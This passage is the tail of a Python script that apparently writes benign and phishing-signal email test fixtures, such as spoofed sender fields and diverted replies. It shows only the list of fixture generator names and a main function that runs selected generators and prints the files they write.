       benign_retail_newsletter, benign_paypal_receipt, benign_mailing_list,
       benign_person_to_person, benign_friend_free_mail,
       benign_colleague_attachment, signal_throwaway_sender_offer,
       benign_camel_case_sender, signal_quoted_from_address,
       signal_split_from_field, signal_brand_joined_display_name,
       benign_brand_joined_display_name, cpf_training_fund,
       health_plan_limited_time, signal_abused_links_only,
       benign_post_one_abused_link, signal_display_name_trailing_tag,
       callback_renewal_invoice, signal_diverted_reply]


def main():
    only = sys.argv[1:]
    for f in ALL:
        if only and f.__name__ not in only:
            continue
        f()
    for name in WRITTEN:
        print("wrote", name)


if __name__ == "__main__":
    main()
